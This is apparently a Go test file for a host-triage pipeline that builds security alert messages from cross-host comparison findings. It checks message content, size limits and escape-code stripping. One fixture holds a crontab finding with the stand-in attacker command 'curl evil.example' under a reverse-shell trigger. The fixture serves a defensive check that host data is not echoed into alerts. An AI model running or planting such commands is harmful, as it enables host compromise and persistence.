package pipeline_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"diffy/pkg/pipeline"
	"diffy/pkg/triage"
)

// publishResult publishes a result as if it had been analysed.
func (w *world) publishResult(r triage.Result) pipeline.Message {
	w.Helper()
	ctx := context.Background()
	data, err := json.Marshal(r)
	w.check(err)
	w.objects["work/"+pipeline.ResultKey("run-1")] = data
	w.check(w.SaveRun(ctx, pipeline.Run{ID: "run-1", GroupKey: r.Group.Key, Account: "1111", Region: "eu-west-1", Purpose: triage.PurposeTriage}))
	_, err = w.publish().Handle(ctx, pipeline.RunIn{Run: "run-1"})
	w.check(err)
	return w.published[0]
}

func TestMessage(t *testing.T) {
	w := newWorld(t)
	m := w.publishResult(triage.Result{
		Run:   triage.RunInfo{Incident: "INC-7", Trigger: &triage.Trigger{Source: "guardduty", Type: "Execution:Runtime/ReverseShell", Severity: 8, Time: "2026-11-24T03:07:58Z"}},
		Group: triage.GroupResult{Key: "asg:web", HostsRequested: 4, Examined: 2, Partial: 1, NotExamined: 1},
		Hosts: []triage.HostResult{
			{Host: "i-1", Status: triage.Examined, Score: 31, Outlier: true, Findings: 2, Suspect: true},
			{Host: "i-2", Status: triage.Examined},
			{Host: "i-3", Status: triage.Partial, Reason: "1 query failed"},
			{Host: "i-4", Status: triage.NotExamined, Reason: "SSM: TimedOut, DeliveryTimedOut", Suspect: true},
		},
		Findings: []triage.Finding{
			{Hosts: []string{"i-1"}, Query: "crontab", Kind: triage.Added, HostsWith: 1, HostsCompared: 3, Severity: triage.High, Row: triage.Row{"command": "curl evil.example"}, Why: "curl evil.example"},
			{Hosts: []string{"i-1"}, Query: "processes", Kind: triage.Added, HostsWith: 1, HostsCompared: 3, Severity: triage.Medium},
			{Hosts: []string{"i-2"}, Query: "mounts", Kind: triage.Added, HostsWith: 1, HostsCompared: 3, Severity: triage.Low},
		},
	})
	want := `1 of 3 examined hosts stand out.
group asg:web, run run-1, incident INC-7
trigger: guardduty Execution:Runtime/ReverseShell, severity 8.0, 2026-11-24T03:07:58Z
hosts: 4 requested, 2 examined, 1 partial, 1 not examined
suspect i-1: examined, stands out
suspect i-4: not_examined
1. i-1  score 31.0, findings to read: 2: crontab added (1 of 3), processes added (1 of 3)
not seen whole: hosts: 1: 1 query failed
not seen whole: hosts: 1: SSM: TimedOut, DeliveryTimedOut
read on: diffy runs report run-1
`
	if diff := cmp.Diff(want, m.Text); diff != "" {
		t.Errorf("text (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(map[string]string{
		"id": "run-1/succeeded", "status": "succeeded", "severity": "high", "group": "asg:web", "account": "1111", "region": "eu-west-1",
		"test": "false", "outliers": "1", "coverage": "50",
	}, m.Attributes); diff != "" {
		t.Errorf("attributes (-want +got):\n%s", diff)
	}
	if m.Subject != "diffy asg:web: 1 of 3 examined hosts stand out" {
		t.Errorf("subject %q", m.Subject)
	}
	if strings.Contains(string(m.Alert)+m.Text, "evil") {
		t.Error("the message holds what a host has sent")
	}
}

// However large the result and whatever its names are, the message is one that SNS
// takes.
func TestMessageBounds(t *testing.T) {
	w := newWorld(t)
	r := triage.Result{Group: triage.GroupResult{Key: "tag:" + strings.Repeat("ü\n", 300), HostsRequested: 5000, Examined: 5000}}
	for i := range 5000 {
		host := fmt.Sprintf("i-%d\x1b[31m", i)
		r.Hosts = append(r.Hosts, triage.HostResult{Host: host, Status: triage.Partial, Reason: fmt.Sprint(strings.Repeat("r", 9000), i), Outlier: true, Suspect: true})
		r.Findings = append(r.Findings, triage.Finding{Hosts: []string{host}, Query: fmt.Sprint("q", i), Severity: triage.High})
	}
	m := w.publishResult(r)
	if len(m.Alert)+len(m.Text) > 100_000 {
		t.Errorf("the message has %d bytes", len(m.Alert)+len(m.Text))
	}
	if len(m.Subject) > 100 || strings.ContainsFunc(m.Subject, func(c rune) bool { return c < ' ' || c > '~' }) {
		t.Errorf("subject %q", m.Subject)
	}
	if strings.Contains(m.Text, "\x1b") {
		t.Error("the text moves the cursor")
	}
}

func TestVerdict(t *testing.T) {
	tests := []struct {
		name  string
		group triage.GroupResult
		want  string
	}{
		{"nobody seen", triage.GroupResult{HostsRequested: 3, NotExamined: 3}, "None of 3 hosts could be examined."},
		{"nothing found", triage.GroupResult{HostsRequested: 3, Examined: 1, Partial: 1, NotExamined: 1}, "No host stands out among the 2 of 3 examined."},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			text := newWorld(t).publishResult(triage.Result{Group: test.group}).Text
			if got, _, _ := strings.Cut(text, "\n"); got != test.want {
				t.Errorf("verdict %q, expected %q", got, test.want)
			}
		})
	}
}
